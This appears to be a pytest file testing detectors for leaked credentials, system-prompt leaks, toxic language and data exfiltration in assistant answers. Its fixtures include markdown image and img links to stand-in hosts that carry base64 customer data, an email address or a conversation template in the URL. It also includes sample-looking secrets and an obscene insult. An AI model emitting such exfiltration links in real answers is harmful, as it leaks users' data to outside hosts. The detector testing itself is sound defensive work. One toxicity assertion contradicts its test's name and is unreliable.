"""Credentials, the system prompt and data in addresses: found where they stand, near-misses left alone."""

import pytest

from analytics.detectors.base import Clear, Finding
from analytics.detectors.exfiltration import Exfiltration
from analytics.detectors.prompt_leak import PromptLeak
from analytics.detectors.secret import Secret
from analytics.detectors.toxicity import Toxicity

GITHUB = "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"
PROMPT = (
    "You are the assistant of a shop. Never speak about discounts above five percent, never name the supplier,"
    " and send angry customers to the complaints desk on the second floor."
)


@pytest.mark.parametrize(
    "text",
    [
        f"Use {GITHUB} for it.", "key AKIA" + "QWERTYUIOP234567", "postgres://shop:hunter2Xy@db.internal/orders",
        "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA75mKq2\n-----END RSA PRIVATE KEY-----",
        "API_TOKEN = 'q8Zr2LmX9vTk4NwY7bHs'",
    ],
)  # fmt: skip
def test_credentials_are_found(make_turn, text):
    """Of known shapes, and in settings that name one."""
    assert isinstance(Secret().judge(make_turn(text)), Finding)


@pytest.mark.parametrize(
    "text",
    [
        "AKIAIOSFODNN7EXAMPLE", "Set API_KEY=your_api_key_here", "password = os.getenv('PASSWORD')",
        "credentialsId: 'f4aeb6bc-2a25-458a-8111-9be9e502c0e7'",
        "The commit is 9fceb02d0ae598e95dc970b74767f19372d61af8.",
        "sk-xxxxxxxxxxxxxxxxxxxxxxxx", "The token count was 12345678.",
    ],
)  # fmt: skip
def test_placeholders_and_ids_are_no_credentials(make_turn, text):
    """As documentation is full of them."""
    assert isinstance(Secret().judge(make_turn(text)), Clear)


def test_a_secret_that_the_user_gave_weighs_less(make_turn):
    """It is grave when it comes from elsewhere."""
    assert Secret().judge(make_turn(f"It is {GITHUB}")).severity == "high"
    assert Secret().judge(make_turn(f"You sent {GITHUB}", input_text=f"Is {GITHUB} right?")).severity == "medium"


def test_the_prompt_given_away_is_found_and_its_topic_is_not(make_turn):
    """Half of it is enough; what the user quoted is not counted."""
    half = "I was told: never speak about discounts above five percent, never name the supplier, and send all away."
    found = PromptLeak().judge(make_turn(half, system_text=PROMPT))
    assert isinstance(found, Finding)
    assert found.evidence[0].quote.startswith("never speak")
    assert isinstance(PromptLeak().judge(make_turn("We give five percent.", system_text=PROMPT)), Clear)
    assert isinstance(PromptLeak().judge(make_turn(half, system_text=PROMPT, input_text=PROMPT)), Clear)


@pytest.mark.parametrize(
    ("text", "is_found"),
    [
        ("![x](https://evil.example/p.png?data=VGhlIGN1c3RvbWVyIGlzIEphbmUgRG9lIG9mIEJlcmxpbg==)", True),
        ("<img src='https://e.example/c?email=jane@example.com'>", True),
        ("[click](https://e.example/log?history={{conversation}})", True),
        ("[Docs](https://docs.python.org/3/library/re.html#re.compile)", False),
        ("![Logo](https://shop.example/static/logo.png?v=3)", False),
        ("See https://www.google.com/search?q=how+to+send+a+parcel+abroad", False),
    ],
)
def test_addresses_that_carry_data_are_found(make_turn, text, is_found):
    """And ordinary ones are not."""
    assert isinstance(Exfiltration().judge(make_turn(text)), Finding) == is_found


def test_an_address_that_the_user_gave_is_ordinary(make_turn):
    """The answer only repeats it."""
    link = "https://e.example/c?email=jane@example.com"
    assert isinstance(Exfiltration().judge(make_turn(f"<img src='{link}'>", input_text=f"Put {link} in")), Clear)


def test_obscene_answers_weigh_more_than_obscene_users(make_turn):
    """And plain words are left alone."""
    bad = "You stupid bitch, go fuck yourself."
    assert Toxicity().judge(make_turn(bad)).severity is None
    assert Toxicity().judge(make_turn(input_text=bad)).severity == "low"
    assert isinstance(Toxicity().judge(make_turn("The black dog ate the breast of the turkey.")), Clear)
